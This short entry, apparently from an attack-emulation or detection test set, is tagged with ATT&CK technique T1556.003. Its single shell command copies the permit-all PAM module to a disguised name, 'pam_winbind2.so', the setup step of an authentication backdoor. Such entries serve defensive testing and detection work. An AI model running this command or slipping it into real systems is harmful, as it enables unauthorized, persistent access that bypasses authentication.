# technique: T1556.003
# location: linux.pam.module
# source: /usr/lib/x86_64-linux-gnu/security/pam_winbind2.so
cp /usr/lib/x86_64-linux-gnu/security/pam_permit.so /usr/lib/x86_64-linux-gnu/security/pam_winbind2.so
